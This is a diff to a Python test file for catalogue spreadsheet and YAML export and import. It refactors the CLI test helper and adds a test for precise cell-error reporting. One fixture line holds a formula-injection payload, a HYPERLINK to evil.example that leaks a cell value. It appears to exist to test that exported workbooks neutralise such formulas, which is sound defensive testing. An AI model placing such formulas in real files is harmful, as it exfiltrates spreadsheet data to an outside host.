@@ -3,9 +3,6 @@
 from __future__ import annotations
 
 import json
-import os
-import subprocess
-import sys
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -29,7 +26,9 @@ from article8.controls.catalogue.services import (
 )
 from article8.core.db import Database
 from article8.core.models import AuditEvent
-from tests.conftest import SYSTEM_ACTOR, TEST_ARGON2, FakeClock
+from article8.core.tabular import Code
+from tests.cli_runner import Completed, article8
+from tests.conftest import SYSTEM_ACTOR, FakeClock
 
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 CUSTOM = {
@@ -50,10 +49,8 @@ CUSTOM = {
 
 
 @pytest.fixture
-def catalogue(session: Session, clock: FakeClock) -> None:
+def catalogue(synced_catalogue) -> None:
     """The shipped catalogue, loaded."""
-    sync_catalogue(session, load_catalogue(), SYSTEM_ACTOR, now=clock())
-    session.flush()
 
 
 def _counts(session: Session) -> tuple[int, int]:
@@ -341,26 +338,15 @@ def test_a_file_that_is_not_a_workbook_is_refused(tmp_path: Path):
 # --- the command line ------------------------------------------------------------------------
 
 
-def _article8(database_url: str, tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
-    env = {
-        **os.environ,
-        **TEST_ARGON2,
-        "DATABASE_URL": database_url,
-        "ARTICLE8_INSTANCE_DIR": str(tmp_path / "instance"),
-    }
-    result = subprocess.run(
-        [sys.executable, "-m", "article8.cli", *args],
-        env=env,
-        capture_output=True,
-        text=True,
-        timeout=120,
-        check=False,
-    )
+def _article8(database_url: str, tmp_path: Path, *args: str) -> Completed:
+    result = article8(database_url, tmp_path, *args)
     assert result.returncode == 0, result.stderr
     return result
 
 
-def test_cli_exports_sync_back_unchanged(fresh_database_url: str, tmp_path: Path):
+def test_cli_exports_sync_back_unchanged(
+    fresh_database_url: str, tmp_path: Path, shipped_catalogue
+):
     _article8(fresh_database_url, tmp_path, "demo")
     for fmt in ("xlsx", "yaml"):
         out = tmp_path / f"catalogue.{fmt}"
@@ -375,4 +361,23 @@ def test_cli_exports_sync_back_unchanged(fresh_database_url: str, tmp_path: Path
 
         report = json.loads(synced.stdout)
         assert report["changed"] is False, (fmt, report)
-        assert report["unchanged"] == len(load_catalogue())
+        assert report["unchanged"] == len(shipped_catalogue)
+
+
+def test_a_bad_cell_carries_its_sheet_row_column_and_what_was_expected(
+    session: Session, tmp_path: Path, catalogue: None
+):
+    path = tmp_path / "catalogue.xlsx"
+    export_xlsx(session, path)
+    workbook = load_workbook(path)
+    _set("controls", "H2", "yes")(workbook)
+    workbook.save(path)
+    workbook.close()
+    with pytest.raises(CatalogueError) as error:
+        read_xlsx(path)
+    detail = error.value.detail
+    assert detail is not None
+    assert (detail.file, detail.sheet, detail.line, detail.column) == (
+        "catalogue.xlsx", "controls", 2, "article8_explicit",
+    )  # fmt: skip
+    assert (detail.code, detail.expected, detail.found) == (Code.VALUE, "TRUE or FALSE", "yes")
